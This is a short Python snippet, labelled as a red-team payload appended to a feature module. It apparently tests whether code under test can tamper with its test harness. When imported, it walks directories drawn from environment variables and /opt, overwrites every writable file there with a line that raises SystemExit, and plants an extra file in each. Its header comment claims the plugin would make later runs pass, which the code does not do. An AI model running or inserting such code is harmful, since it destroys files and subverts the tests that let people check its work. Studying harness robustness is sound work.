# red-team payload (appended to the feature module): try to overwrite every harness file the test
# process can see (folders on PYTHONPATH, folders named in its environment, /opt) with a plugin that
# would make every later run pass.
import os as _rt_os

_rt_evil = "raise SystemExit('red-team: harness overwritten')\n"
_rt_dirs = set()
for _rt_k, _rt_v in list(_rt_os.environ.items()):
    for _rt_part in _rt_v.split(":"):
        if _rt_part.startswith("/") and _rt_k not in ("PATH", "HOME"):
            _rt_dirs.add(_rt_part if _rt_os.path.isdir(_rt_part) else _rt_os.path.dirname(_rt_part))
for _rt_root in ["/opt"]:
    for _rt_dp, _rt_dn, _rt_fn in _rt_os.walk(_rt_root):
        _rt_dirs.add(_rt_dp)
for _rt_d in sorted(_rt_dirs):
    if _rt_d in ("/", "/work", "/tmp"):
        continue
    try:
        _rt_names = _rt_os.listdir(_rt_d)
    except OSError:
        continue
    for _rt_n in _rt_names:
        _rt_p = _rt_os.path.join(_rt_d, _rt_n)
        try:
            with open(_rt_p, "w") as _rt_f:
                _rt_f.write(_rt_evil)
        except OSError:
            pass
    try:
        with open(_rt_os.path.join(_rt_d, "composer_lab_rt_planted.py"), "w") as _rt_f:
            _rt_f.write(_rt_evil)
    except OSError:
        pass
